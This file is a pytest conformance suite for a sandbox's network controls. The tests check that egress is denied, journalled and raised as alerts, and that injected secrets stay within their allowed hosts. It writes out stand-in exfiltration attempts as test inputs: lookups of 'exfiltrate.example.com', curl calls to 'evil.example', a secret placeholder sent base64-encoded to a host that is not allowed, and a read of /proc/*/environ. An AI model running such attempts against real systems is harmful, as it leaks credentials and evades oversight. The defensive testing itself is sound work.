"""A sandbox's network: nothing leaves unless its terms say so, and all of it is in the journal."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conformance.conftest import MakeBox
from conformance.origin import Origin, running
from conformance.waiting import eventually
from paddock import InvalidInput, Sandbox
from paddock.gate.approvals import Approvals
from paddock.gate.run_gate import gate_store, signing_key
from paddock.journal.integrity.verify import verify
from paddock.journal.log import RunLog
from paddock.model.steps import Step
from paddock.state.home import Home

DIRECT = "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY"


@pytest.fixture(scope="module")
def origin() -> Iterator[Origin]:
    with running() as server:
        yield server


def _reach(origin: Origin, *names: str) -> dict[str, Any]:
    return {
        "allow": [f"{name}:80" for name in names],
        "hosts": {name: origin.place for name in names},
    }


def _curl(box: Sandbox, words: str, lead: str = DIRECT) -> tuple[int, str]:
    """The status that curl saw (0 without an answer), and the body."""
    command = f"{lead} curl -s -m 20 -o /tmp/out -w '%{{http_code}}' {words}; echo; cat /tmp/out"
    out = box.commands.run(f"rm -f /tmp/out; {command} 2>/dev/null || true").stdout
    status, _, body = out.partition("\n")
    return int(status), body


def _steps(box: Sandbox, kind: str) -> list[Step]:
    steps = RunLog(Home.find().runs / box.sandbox_id).steps()
    return [step for step in steps if step.kind == kind]


def _verdict(step: Step) -> tuple[str, str]:
    assert step.decided is not None
    return step.decided.verdict, step.decided.decided_by


def test_a_sandbox_without_network_words_reaches_nothing(box: Sandbox) -> None:
    script = "import socket; socket.create_connection(('198.18.1.1', 80), 5)"
    done = box.commands.run(f'python3 -c "{script}" 2>&1 || true')
    assert "Connection refused" in done.stdout


def test_an_air_gapped_sandbox_reaches_nothing(make_box: MakeBox) -> None:
    box = make_box(network={"mode": "none"})
    done = box.commands.run("curl -s -m 5 http://198.18.1.1/ 2>&1; echo $?")
    assert done.stdout.strip() == "7"
    assert box.get_info().enforcement["network"] == "none: only loopback"


@pytest.mark.parametrize("terms", [{}, {"network": {"mode": "none"}}], ids=["unsaid", "none"])
def test_attempts_without_a_network_are_steps_and_alerts(
    make_box: MakeBox, terms: dict[str, Any]
) -> None:
    box = make_box(**terms)
    attempts = """
import contextlib, socket
for try_it in (
    lambda: socket.create_connection(("192.0.2.7", 8443), 5),
    lambda: socket.create_connection(("2001:db8::7", 443), 5),
    lambda: socket.getaddrinfo("exfiltrate.example.com", 443),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.8", 123)),
):
    with contextlib.suppress(OSError):
        try_it()
"""
    box.commands.run(["python3", "-c", attempts])
    wanted = {("192.0.2.7", 8443), ("2001:db8::7", 443), ("192.0.2.8", 123),
              ("exfiltrate.example.com", None)}  # fmt: skip

    def told() -> bool:
        alerts = [a for a in box.alerts() if a.name == "egress.denied"]
        return wanted <= {(a.about["host"], a.about.get("port")) for a in alerts}

    eventually(told, timeout_s=10)
    refused = [*_steps(box, "connect"), *_steps(box, "dns")]
    assert {_verdict(step) for step in refused} == {("block", "network")}
    assert wanted <= {(step.arguments["host"], step.arguments.get("port")) for step in refused}


def test_a_flood_of_datagrams_hides_no_connection_without_a_network(make_box: MakeBox) -> None:
    box = make_box()
    flood = """
import contextlib, socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(3000):
    with contextlib.suppress(OSError):
        sock.sendto(b"x", ("192.0.2.8", 1000 + n % 50))
for try_it in (
    lambda: socket.create_connection(("192.0.2.7", 8443), 5),
    lambda: socket.getaddrinfo("exfiltrate.example.com", 443),
):
    with contextlib.suppress(OSError):
        try_it()
"""
    box.commands.run(["python3", "-c", flood])
    wanted = {"192.0.2.7", "exfiltrate.example.com"}
    eventually(lambda: wanted <= {a.about["host"] for a in box.alerts()}, timeout_s=10)


def test_a_network_can_be_given_to_a_sandbox_that_was_watched_without_one(
    make_box: MakeBox, origin: Origin
) -> None:
    box = make_box()
    box.commands.run("curl -s -m 5 http://192.0.2.7/ || true")
    box.update_network(**_reach(origin, "api.example"))
    assert _curl(box, "http://api.example/")[0] == 200
    assert _curl(box, "http://other.example/")[0] in (0, 403)


@pytest.mark.parametrize("lead", [DIRECT, "env"], ids=["redirected", "by the proxy"])
def test_an_allowed_host_answers_and_the_journal_has_it(
    make_box: MakeBox, origin: Origin, lead: str
) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    status, body = _curl(box, "'http://api.example/v1/things?page=2' -H 'X-One: 1'", lead)
    assert status == 200
    assert json.loads(body)["headers"]["host"] == "api.example"
    (step,) = _steps(box, "http")
    said = step.arguments
    assert (said["method"], said["host"], said["path"]) == ("GET", "api.example", "/v1/things")
    assert said["query"] == "page=2"
    result = step.result
    assert result["status"] == 200
    assert result["address"] == "127.0.0.1"
    assert json.loads(result["body"])["path"] == "/v1/things?page=2"
    box.kill()
    home = Home.find()
    assert verify(home.runs / box.sandbox_id, signing_key(home).public).ok


def test_a_request_belongs_to_the_command_that_made_it(make_box: MakeBox, origin: Origin) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    quiet = box.commands.run(["sleep", "30"], background=True)
    _curl(box, "http://api.example/a")
    _curl(box, "http://api.example/b")
    quiet.kill()
    commands = {s.number for s in _steps(box, "exec") if "curl" in str(s.proposed)}
    parents = [step.parent for step in _steps(box, "http")]
    assert len(set(parents)) == 2
    assert set(parents) == commands


def test_a_host_that_is_not_allowed_does_not_exist(make_box: MakeBox, origin: Origin) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    assert _curl(box, "http://evil.example/")[0] == 0
    assert box.commands.run("getent hosts evil.example || echo none").stdout == "none\n"
    assert {_verdict(s) for s in _steps(box, "dns")} == {("block", "network")}
    assert [a.name for a in box.alerts()] == ["egress.denied"]
    assert not any(seen["headers"].get("host") == "evil.example" for seen in origin.seen)


def test_another_port_of_an_allowed_host_is_refused(make_box: MakeBox, origin: Origin) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    assert _curl(box, "http://api.example:8080/")[0] == 0
    assert _curl(box, "http://api.example:8080/", "env")[0] == 403
    assert {_verdict(s) for s in _steps(box, "connect")} == {("block", "network")}
    assert box.alerts()[-1].about["port"] == 8080


def test_an_address_that_no_name_stands_for_is_refused(make_box: MakeBox, origin: Origin) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    port = origin.server_address[1]
    for place in (f"127.0.0.1:{port}", "1.1.1.1", "[2001:db8::1]", "198.18.200.7"):
        assert _curl(box, f"'http://{place}/'")[0] == 0
    hosts = {step.arguments["host"] for step in _steps(box, "connect")}
    assert hosts == {"1.1.1.1", "2001:db8::1", "198.18.200.7"}


def test_network_words_take_effect_while_the_sandbox_runs(
    make_box: MakeBox, origin: Origin
) -> None:
    box = make_box()
    assert _curl(box, "http://api.example/")[0] == 0
    box.update_network(["api.example:80"], hosts={"api.example": origin.place})
    assert _curl(box, "http://api.example/")[0] == 200
    box.update_network(["other.example:80"], hosts={"other.example": origin.place})
    assert _curl(box, "http://api.example/")[0] == 0
    assert _curl(box, "http://other.example/")[0] == 200
    box.update_network(mode="none")
    assert _curl(box, "http://other.example/")[0] == 0


def test_an_update_keeps_what_it_does_not_name(make_box: MakeBox, origin: Origin) -> None:
    box = make_box(network=_reach(origin, "api.example", "other.example"))
    box.update_network(["other.example:80"])
    assert _curl(box, "http://other.example/")[0] == 200
    assert _curl(box, "http://api.example/")[0] == 0


def test_a_file_of_authorities_that_is_not_there_refuses_the_sandbox(
    make_box: MakeBox, origin: Origin, tmp_path: Path
) -> None:
    missing = str(tmp_path / "none.pem")
    with pytest.raises(InvalidInput, match=r"none\.pem"):
        make_box(network={**_reach(origin, "api.example"), "tls": {"ca": missing}})


def test_an_open_connection_is_cut_when_its_host_is_no_longer_allowed(
    make_box: MakeBox, origin: Origin
) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    script = (
        "import http.client, sys\n"
        "c = http.client.HTTPConnection('api.example', timeout=20)\n"
        "c.request('GET', '/1'); print(c.getresponse().read()[:1]); sys.stdout.flush()\n"
        "sys.stdin.readline()\n"
        "try:\n"
        "    c.request('GET', '/2'); print(c.getresponse().status)\n"
        "except Exception as e: print(type(e).__name__)\n"
    )
    box.files.write("client.py", script)
    lines: list[str] = []
    running = box.commands.run(
        ["python3", "client.py"], background=True, stdin=True, on_stdout=lines.append
    )
    eventually(lambda: "{" in "".join(lines))
    box.update_network(["other.example:80"], hosts={"other.example": origin.place})
    running.send_stdin("\n")
    running.wait()
    assert "/2" not in [seen["path"] for seen in origin.seen]
    assert "200" not in "".join(lines)


def test_a_fork_has_a_network_of_its_own(make_box: MakeBox, origin: Origin) -> None:
    box = make_box(network=_reach(origin, "api.example"))
    with box.fork() as fork:
        assert _curl(fork, "http://api.example/from-fork")[0] == 200
        fork.update_network(mode="none")
        assert _curl(fork, "http://api.example/")[0] == 0
    assert _curl(box, "http://api.example/from-parent")[0] == 200
    assert len(_steps(box, "http")) == 1


def test_a_pooled_sandbox_gets_a_network(make_box: MakeBox, origin: Origin) -> None:
    with Sandbox.pool(1):
        box = make_box(network=_reach(origin, "api.example"))
        assert _curl(box, "http://api.example/pooled")[0] == 200


FILE = """
version: 1
agent: tester
stage: broad
approvals: {{timeout: 30s, by: [store]}}
network:
  allow: [api.example:80, other.example:80]
  hosts: {{api.example: "{place}", other.example: "{place}"}}
secrets:
  API_KEY: {{from: env:TEST_API_KEY, to: [api.example], as: header:Authorization=Bearer}}
rules:
  - {{id: inside, match: {{kind: [exec, file, code]}}, decide: allow}}
  - id: no-deletes
    match: {{kind: http, method: DELETE}}
    decide: block
    why: Nothing is deleted.
  - id: refunds
    match: {{kind: http, host: api.example, method: POST, path: /v1/refunds}}
    when: int(body.amount) > 5000
    decide: ask
  - id: broken
    match: {{kind: http, path: /broken}}
    decide: fault
    fault: {{status: 503, error: down}}
"""
VALUE = "sk_test_f6b1c0a2d4e8"


@pytest.fixture
def ruled(
    make_box: MakeBox, origin: Origin, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Sandbox:
    monkeypatch.setenv("TEST_API_KEY", VALUE)
    path = tmp_path / "paddock.yaml"
    path.write_text(FILE.format(place=origin.place))
    return make_box(policy=str(path))


def test_a_rule_refuses_with_its_reason(ruled: Sandbox) -> None:
    status, body = _curl(ruled, "-X DELETE http://api.example/v1/customers/1")
    assert status == 403
    assert json.loads(body)["error"]["rule"] == "no-deletes"
    assert json.loads(body)["error"]["message"] == "Nothing is deleted."


def test_a_fault_answers_in_place_of_the_server(ruled: Sandbox, origin: Origin) -> None:
    status, body = _curl(ruled, "http://other.example/broken")
    assert (status, json.loads(body)["error"]["message"]) == (503, "down")
    assert "/broken" not in [seen["path"] for seen in origin.seen]


def test_an_asked_request_waits_for_its_answer(ruled: Sandbox) -> None:
    assert _curl(ruled, "-d amount=5000 http://api.example/v1/refunds")[0] == 200
    lines: list[str] = []
    command = f"{DIRECT} curl -s -w '%{{http_code}}' -d amount=5001 http://api.example/v1/refunds"
    running = ruled.commands.run(command, background=True, on_stdout=lines.append)
    store = Approvals(gate_store(Home.find()))
    eventually(lambda: store.all(run=ruled.sandbox_id))
    (asked,) = store.all(run=ruled.sandbox_id)
    assert asked.content["arguments"]["body"] == {"amount": "5001"}
    store.approve(asked.approval_id, by="ann")
    running.wait()
    assert "".join(lines).endswith("200")
    assert VALUE not in str(asked)


def test_a_body_that_a_rule_cannot_read_is_refused(ruled: Sandbox, origin: Origin) -> None:
    before = len(origin.seen)
    for words in (
        "-d '{\"amount\": 1, \"amount\": 9999}' -H 'Content-Type: application/json'",
        "-d amount=9999 -H 'Content-Type: text/plain'",
        "-d 'amount=1&amount=9999'",
        "-F amount=9999",
        "-d ''",
    ):
        assert _curl(ruled, f"{words} http://api.example/v1/refunds")[0] == 403
    assert len(origin.seen) == before


def test_the_sandbox_has_a_placeholder_and_the_server_gets_the_value(
    ruled: Sandbox, origin: Origin
) -> None:
    placeholder = ruled.commands.run("printenv API_KEY").stdout.strip()
    assert placeholder.startswith("paddock_API_KEY_")
    status, body = _curl(ruled, "http://api.example/keyed -H 'Authorization: Bearer mine'")
    assert status == 200
    seen = next(one for one in origin.seen if one["path"] == "/keyed")
    assert seen["headers"]["authorization"] == f"Bearer {VALUE}"
    assert VALUE not in body
    assert placeholder in body
    everything = ruled.commands.run("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").stdout
    assert VALUE not in everything
    run = Home.find().runs / ruled.sandbox_id
    for path in run.rglob("*"):
        assert not path.is_file() or VALUE.encode() not in path.read_bytes()


def test_a_placeholder_does_not_go_to_another_host(ruled: Sandbox, origin: Origin) -> None:
    before = len(origin.seen)
    for words in ('-H "X: $API_KEY"', '-d "k=$API_KEY"', '-d "$(printf %s $API_KEY | base64 -w0)"'):
        assert _curl(ruled, f"{words} http://other.example/")[0] == 403
    assert _curl(ruled, '"http://other.example/?k=$API_KEY"')[0] == 403
    assert len(origin.seen) == before
    assert {a.name for a in ruled.alerts()} == {"secret.misplaced"}


def test_a_revoked_secret_is_gone_from_a_running_sandbox(ruled: Sandbox, origin: Origin) -> None:
    assert _curl(ruled, "http://api.example/before")[0] == 200
    command = [sys.executable, "-m", "paddock.cli.main", "secrets", "revoke", "API_KEY"]
    subprocess.run(command, check=True, capture_output=True)
    status, body = _curl(ruled, "http://api.example/after")
    assert (status, "/after" in str(origin.seen)) == (403, False)
    assert "revoked" in body


def test_a_value_that_cannot_be_had_refuses_the_sandbox(
    make_box: MakeBox, origin: Origin, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("TEST_API_KEY", raising=False)
    with pytest.raises(InvalidInput, match="TEST_API_KEY"):
        make_box(
            network=_reach(origin, "api.example"),
            secrets={"API_KEY": {"from": "env:TEST_API_KEY", "to": ["api.example"]}},
        )


def test_a_secret_for_a_host_that_is_not_allowed_is_refused(
    make_box: MakeBox, origin: Origin, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEST_API_KEY", VALUE)
    with pytest.raises(InvalidInput, match=r"evil\.example"):
        make_box(
            network=_reach(origin, "api.example"),
            secrets={"API_KEY": {"from": "env:TEST_API_KEY", "to": ["evil.example"]}},
        )


def test_a_request_dressed_as_a_model_call_meets_the_rules_for_requests(
    make_box: MakeBox, origin: Origin, tmp_path: Path
) -> None:
    path = tmp_path / "paddock.yaml"
    path.write_text(f"""
version: 1
agent: tester
stage: broad
network: {{allow: [api.example:80], hosts: {{api.example: "{origin.place}"}}}}
rules:
  - {{id: inside, match: {{kind: [exec, file, code]}}, decide: allow}}
  - {{id: no-posts, match: {{kind: http, host: api.example, method: POST}}, decide: block}}
""")
    box = make_box(policy=str(path))
    body = '{"model": "x", "messages": [], "to": "+1"}'
    words = f"-H 'Content-Type: application/json' -d '{body}' http://api.example/v1/messages"
    before = len(origin.seen)
    assert _curl(box, words)[0] == 403
    assert len(origin.seen) == before
    assert [_verdict(s) for s in _steps(box, "http")] == [("block", "no-posts")]


def test_what_looks_like_a_model_call_to_anybody_is_a_write_for_the_stage(
    make_box: MakeBox, origin: Origin, tmp_path: Path
) -> None:
    path = tmp_path / "paddock.yaml"
    path.write_text(f"""
version: 1
agent: tester
stage: observe
network:
  allow: [sms.example:80, api.openai.com:80]
  hosts: {{sms.example: "{origin.place}", api.openai.com: "{origin.place}"}}
rules:
  - {{id: inside, match: {{kind: [exec, file, code]}}, decide: allow}}
""")
    box = make_box(policy=str(path))
    body = '{"model": "x", "messages": []}'
    words = f"-H 'Content-Type: application/json' -d '{body}'"
    assert _curl(box, f"{words} http://sms.example/v1/chat/completions")[0] == 403
    assert _curl(box, f"{words} http://api.openai.com/v1/chat/completions")[0] == 200
    assert [_verdict(s)[0] for s in _steps(box, "model")] == ["allow"]
